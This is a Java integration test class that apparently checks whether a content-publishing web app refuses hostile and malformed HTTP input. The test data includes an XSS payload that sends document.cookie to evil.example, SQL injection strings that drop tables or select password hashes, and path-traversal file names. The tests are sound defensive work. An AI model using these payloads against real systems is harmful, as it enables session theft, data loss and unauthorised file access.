package io.postgate.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.InputStream;
import java.io.SequenceInputStream;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublisher;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;

import io.postgate.PostgateApi;
import io.postgate.PostgateIntegrationTest;
import io.postgate.screening.extraction.Fixtures;

/**
 * Hostile and malformed input over real HTTP, through Tomcat's own limits (MockMvc never reaches them):
 * each request gets its status and a problem+json body that says what is wrong, nothing is stored, and
 * the server is still healthy afterwards. What content/ContentApiIntegrationTests already covers through
 * MockMvc (schedule in 9999 or the past, unknown content platform/status, paging of the content list,
 * SQL-looking content filters, path traversal and size limit of attachments) is not repeated here.
 */
@PostgateIntegrationTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class BadInputIntegrationTests {

	private static final long HUNDRED_MEGABYTES = 100L * 1024 * 1024;
	private static final String BOUNDARY = "bad-input-boundary-41c9";

	@Autowired
	ObjectMapper json;

	@Autowired
	JdbcTemplate jdbc;

	@LocalServerPort
	int port;

	private final HttpClient http = HttpClient.newHttpClient();
	private String draftId;

	@BeforeAll
	void createADraftToAttachTo() throws Exception {
		HttpResponse<String> created = send("POST", "/api/contents", "editor1", json(PostgateApi.cleanDraft(PostgateApi.uniqueCampaign())));
		assertThat(created.statusCode()).isEqualTo(201);
		draftId = json.readTree(created.body()).get("id").asText();
	}

	@AfterAll
	void serverIsStillHealthy() throws Exception {
		HttpResponse<String> health = http.send(HttpRequest.newBuilder(uri("/actuator/health")).build(), BodyHandlers.ofString());
		assertThat(health.statusCode()).isEqualTo(200);
		assertThat(json.readTree(health.body()).get("status").asText()).isEqualTo("UP");
	}

	// --- size limits, answered by Tomcat/Spring before the controller ---

	@Test
	void hundredMegabyteAttachmentIsRefusedWith413AndNothingIsStored() throws Exception {
		Map<String, Long> before = storedCounts();

		HttpResponse<String> response = send("POST", "/api/contents/" + draftId + "/attachments", "editor1", hugeUpload("huge.png"));

		assertProblem(response, 413, "larger than this server accepts");
		assertThat(storedCounts()).isEqualTo(before);
	}

	@Test
	void hundredMegabyteFileForScreeningIsRefusedWith413() throws Exception {
		Map<String, Long> before = storedCounts();

		HttpResponse<String> response = send("POST", "/api/screenings", "editor1", hugeUpload("huge.docx"));

		assertProblem(response, 413, "larger than this server accepts");
		assertThat(storedCounts()).isEqualTo(before);
	}

	@Test
	void millionCharacterTextIsTooLargeForScreeningAndForADraft() throws Exception {
		String million = "word ".repeat(200_000);
		Map<String, Long> before = storedCounts();

		assertProblem(send("POST", "/api/screenings", "editor1", json(Map.of("title", "Long", "text", million))), 413, "more than the 200000 screening accepts");
		Map<String, Object> draft = PostgateApi.cleanDraft(PostgateApi.uniqueCampaign());
		draft.put("body", million);
		assertProblem(send("POST", "/api/contents", "editor1", json(draft)), 413, "body: 1000000 characters is more than the");

		assertThat(storedCounts()).isEqualTo(before);
	}

	// --- files that must not be read ---

	@Test
	void zipBombDocxIsRefusedWith422() throws Exception {
		assertProblem(send("POST", "/api/screenings", "editor1", multipart("bomb.docx", Fixtures.zipBombDocx(20))), 422, "zip bomb");
	}

	@Test
	void deeplyNestedArchiveIsRefusedWith422() throws Exception {
		assertProblem(send("POST", "/api/screenings", "editor1", multipart("nested.zip", Fixtures.nestedZip(6, "deep inside"))), 422,
				"levels deep");
	}

	@Test
	void malformedPdfIsRefusedWith422() throws Exception {
		byte[] broken = Arrays.copyOf(Fixtures.pdf("Cut off in the middle", "Eve"), 40);
		assertProblem(send("POST", "/api/screenings", "editor1", multipart("broken.pdf", broken)), 422, "damaged");
	}

	@Test
	void encryptedPdfIsRefusedWith422() throws Exception {
		assertProblem(send("POST", "/api/screenings", "editor1", multipart("secret.pdf", Fixtures.encryptedPdf("Secret plan"))), 422,
				"password-protected");
	}

	// --- malformed text ---

	@Test
	void invalidUtf8InAJsonBodyIsRefusedWith400() throws Exception {
		Map<String, Long> before = storedCounts();
		byte[] draft = json(PostgateApi.cleanDraft(PostgateApi.uniqueCampaign())).replace("Planning notes", "Planning XYZZY notes")
				.getBytes(StandardCharsets.UTF_8);
		byte[] invalid = replace(draft, "XYZZY".getBytes(StandardCharsets.US_ASCII), new byte[] { (byte) 0xC3, (byte) 0x28, (byte) 0xFF });

		assertProblem(send("POST", "/api/contents", "editor1", BodyPublishers.ofByteArray(invalid), "application/json"), 400, "not valid JSON");
		assertProblem(send("POST", "/api/screenings", "editor1",
				BodyPublishers.ofByteArray(replace("{\"text\":\"abc XX\"}".getBytes(StandardCharsets.US_ASCII), "XX".getBytes(StandardCharsets.US_ASCII),
						new byte[] { (byte) 0xE2, (byte) 0x82 })), "application/json"), 400, "not valid JSON");
		assertThat(storedCounts()).isEqualTo(before);
	}

	@Test
	void controlCharactersInTitleOrBodyAreRefusedNamingTheField() throws Exception {
		Map<String, Long> before = storedCounts();
		for (String title : List.of("Null\u0000byte", "Bell\u0007", "Escape\u001B[31m red", "Two\nlines", "Delete\u007F")) {
			Map<String, Object> draft = PostgateApi.cleanDraft(PostgateApi.uniqueCampaign());
			draft.put("title", title);
			assertProblem(send("POST", "/api/contents", "editor1", json(draft)), 400, "title: must not contain control characters");
		}
		Map<String, Object> draft = PostgateApi.cleanDraft(PostgateApi.uniqueCampaign());
		draft.put("body", "A line\u0000with a null byte");
		assertProblem(send("POST", "/api/contents", "editor1", json(draft)), 400, "body: must not contain control characters");
		assertThat(storedCounts()).isEqualTo(before);

		draft.put("body", "Line breaks\nand\ttabs\r\nare text.");
		assertThat(send("POST", "/api/contents", "editor1", json(draft)).statusCode()).isEqualTo(201);
	}

	@Test
	void htmlAndScriptAreStoredVerbatimAndReturnedAsJsonText() throws Exception {
		String title = "<script>alert('title')</script><img src=x onerror=alert(1)>";
		String body = "Hello <b>team</b> </textarea><script>document.location='https://evil.example/'+document.cookie</script> \"quoted\" & more";
		Map<String, Object> draft = PostgateApi.cleanDraft(PostgateApi.uniqueCampaign());
		draft.put("title", title);
		draft.put("body", body);
		HttpResponse<String> created = send("POST", "/api/contents", "editor1", json(draft));
		assertThat(created.statusCode()).isEqualTo(201);
		String id = json.readTree(created.body()).get("id").asText();

		HttpResponse<String> read = send("GET", "/api/contents/" + id, "editor1", BodyPublishers.noBody(), null);

		assertThat(read.headers().firstValue("Content-Type")).hasValueSatisfying(type -> assertThat(type).startsWith("application/json"));
		assertThat(read.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
		JsonNode current = json.readTree(read.body()).get("current");
		assertThat(current.get("title").asText()).isEqualTo(title);
		assertThat(current.get("body").asText()).isEqualTo(body);
	}

	// --- filters, enumerations and paging ---

	@Test
	void sqlInjectionInTaskCalendarAndAuditFiltersNeverCausesAServerError() throws Exception {
		List<String> attacks = List.of("' OR '1'='1", "x'; DROP TABLE content_item; --", "\" OR 1=1 --", "%' UNION SELECT username, password_hash FROM app_user --",
				"linkedin') OR ('a'='a", "\\'; SELECT SLEEP(5); --");
		Map<String, List<String>> filters = new LinkedHashMap<>();
		filters.put("/api/tasks?reviewer1=", List.of("platform", "campaign", "candidateGroup", "sort"));
		filters.put("/api/calendar?from=2026-01-01T00:00:00Z&to=2026-02-01T00:00:00Z&reviewer1=", List.of("platform"));
		filters.put("/api/audit?compliance1=", List.of("contentId", "actor", "eventType", "platform"));
		filters.put("/api/contents?reviewer1=", List.of("status", "author", "platform"));
		for (Map.Entry<String, List<String>> endpoint : filters.entrySet()) {
			String user = endpoint.getKey().replaceAll(".*[?&]([a-z0-9]+)=$", "$1");
			String base = endpoint.getKey().replaceAll("[?&][a-z0-9]+=$", "");
			for (String parameter : endpoint.getValue()) {
				for (String attack : attacks) {
					String path = base + (base.contains("?") ? "&" : "?") + parameter + "=" + URLEncoder.encode(attack, StandardCharsets.UTF_8);
					HttpResponse<String> response = send("GET", path, user, BodyPublishers.noBody(), null);
					assertThat(response.statusCode()).as(path).isIn(200, 400);
					if (response.statusCode() == 400) {
						assertProblem(response, 400, parameter + ":");
					}
					else {
						JsonNode result = json.readTree(response.body());
						JsonNode rows = result.isArray() ? result : result.has("content") ? result.get("content") : result.get("entries");
						assertThat(rows).as("rows for %s", path).isNotNull().isEmpty();
					}
				}
			}
		}
	}

	@Test
	void unknownPlatformAndOutcomeAreRefusedNamingTheField() throws Exception {
		assertProblem(send("GET", "/api/tasks?platform=myspace", "reviewer1", BodyPublishers.noBody(), null), 400, "platform: unknown platform");
		assertProblem(send("GET", "/api/calendar?from=2026-01-01T00:00:00Z&to=2026-02-01T00:00:00Z&platform=myspace", "reviewer1",
				BodyPublishers.noBody(), null), 400, "platform:");
		assertProblem(send("POST", "/api/screenings", "editor1", json(Map.of("text", "Hello", "platform", "myspace"))), 400, "platform: unknown platform");
		assertProblem(send("POST", "/api/tasks/" + UUID.randomUUID() + "/complete", "reviewer1", json(Map.of("outcome", "MAYBE"))), 400,
				"outcome: must be one of APPROVE, REQUEST_CHANGES, REJECT");
		assertProblem(send("GET", "/api/tasks?sort=name", "reviewer1", BodyPublishers.noBody(), null), 400, "sort:");
	}

	@Test
	void negativeOrHugePagingOfTasksAndAuditIsRefusedNamingTheParameter() throws Exception {
		for (String query : List.of("page=-1", "size=0", "size=100000", "page=99999999999", "size=-5", "page=1e3")) {
			String parameter = query.substring(0, query.indexOf('='));
			assertProblem(send("GET", "/api/tasks?" + query, "reviewer1", BodyPublishers.noBody(), null), 400, parameter + ":");
			assertProblem(send("GET", "/api/audit?" + query, "compliance1", BodyPublishers.noBody(), null), 400, parameter + ":");
		}
	}

	@Test
	void pathTraversalInAnAttachmentNameOverHttpStaysInsideTheStore() throws Exception {
		byte[] png = Base64.getDecoder().decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");
		for (String name : List.of("../../../../etc/passwd.png", "..\\..\\..\\windows\\win.ini.png", "/etc/cron.d/evil.png", "%2e%2e%2fevil.png")) {
			HttpResponse<String> response = send("POST", "/api/contents/" + draftId + "/attachments", "editor1", multipart(name, png));
			assertThat(response.statusCode()).as(name).isEqualTo(201);
		}
		JsonNode attachments = json.readTree(send("GET", "/api/contents/" + draftId, "editor1", BodyPublishers.noBody(), null).body())
				.get("current").get("attachments");
		assertThat(attachments).isNotEmpty();
		attachments.forEach(attachment -> assertThat(attachment.get("fileName").asText()).doesNotContain("/", "\\", ".."));
	}

	// --- helpers ---

	private Map<String, Long> storedCounts() {
		Map<String, Long> counts = new LinkedHashMap<>();
		for (String table : List.of("content_item", "content_revision", "attachment_blob", "content_attachment")) {
			counts.put(table, jdbc.queryForObject("select count(*) from " + table, Long.class));
		}
		return counts;
	}

	private void assertProblem(HttpResponse<String> response, int status, String detail) throws Exception {
		assertThat(response.statusCode()).as(response.body()).isEqualTo(status);
		assertThat(response.headers().firstValue("Content-Type")).as("content type of the %d answer", status)
				.hasValueSatisfying(type -> assertThat(type).startsWith("application/problem+json"));
		JsonNode problem = json.readTree(response.body());
		assertThat(problem.get("status").asInt()).isEqualTo(status);
		assertThat(problem.get("detail").asText()).containsIgnoringCase(detail);
		assertThat(response.body()).doesNotContain("Exception", "at io.postgate", "org.springframework");
	}

	private HttpResponse<String> send(String method, String path, String user, MultipartBody body) throws Exception {
		return send(method, path, user, body.publisher(), "multipart/form-data; boundary=" + BOUNDARY);
	}

	private HttpResponse<String> send(String method, String path, String user, String jsonBody) throws Exception {
		return send(method, path, user, BodyPublishers.ofString(jsonBody, StandardCharsets.UTF_8), "application/json");
	}

	private HttpResponse<String> send(String method, String path, String user, BodyPublisher body, String contentType) throws Exception {
		HttpRequest.Builder request = HttpRequest.newBuilder(uri(path)).method(method, body)
				.header("Authorization", "Basic " + Base64.getEncoder().encodeToString((user + ":demo").getBytes(StandardCharsets.UTF_8)));
		if (contentType != null) {
			request.header("Content-Type", contentType);
		}
		return http.send(request.build(), BodyHandlers.ofString());
	}

	private URI uri(String path) {
		return URI.create("http://localhost:" + port + path);
	}

	private String json(Object value) throws Exception {
		return json.writeValueAsString(value);
	}

	private static MultipartBody multipart(String fileName, byte[] content) {
		byte[] head = head(fileName);
		byte[] tail = tail();
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		bytes.writeBytes(head);
		bytes.writeBytes(content);
		bytes.writeBytes(tail);
		byte[] all = bytes.toByteArray();
		return () -> BodyPublishers.ofByteArray(all);
	}

	/** A 100 MB file part, streamed with its Content-Length as a real client sends it. */
	private static MultipartBody hugeUpload(String fileName) {
		byte[] head = head(fileName);
		byte[] tail = tail();
		long length = head.length + HUNDRED_MEGABYTES + tail.length;
		return () -> BodyPublishers.fromPublisher(BodyPublishers.ofInputStream(() -> new SequenceInputStream(
				new SequenceInputStream(new ByteArrayInputStream(head), new Zeros(HUNDRED_MEGABYTES)), new ByteArrayInputStream(tail))), length);
	}

	private static byte[] head(String fileName) {
		return ("--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + fileName + "\"\r\n"
				+ "Content-Type: application/octet-stream\r\n\r\n").getBytes(StandardCharsets.UTF_8);
	}

	private static byte[] tail() {
		return ("\r\n--" + BOUNDARY + "--\r\n").getBytes(StandardCharsets.UTF_8);
	}

	private static byte[] replace(byte[] source, byte[] target, byte[] replacement) {
		String marker = new String(source, StandardCharsets.ISO_8859_1);
		int at = marker.indexOf(new String(target, StandardCharsets.ISO_8859_1));
		assertThat(at).isNotNegative();
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		out.write(source, 0, at);
		out.writeBytes(replacement);
		out.write(source, at + target.length, source.length - at - target.length);
		return out.toByteArray();
	}

	interface MultipartBody {
		BodyPublisher publisher();
	}

	/** {@code length} zero bytes without holding them in memory. */
	private static final class Zeros extends InputStream {

		private long remaining;

		Zeros(long length) {
			this.remaining = length;
		}

		@Override
		public int read() {
			if (remaining <= 0) {
				return -1;
			}
			remaining--;
			return 0;
		}

		@Override
		public int read(byte[] buffer, int offset, int length) {
			if (remaining <= 0) {
				return -1;
			}
			int count = (int) Math.min(length, remaining);
			Arrays.fill(buffer, offset, offset + count, (byte) 0);
			remaining -= count;
			return count;
		}
	}
}
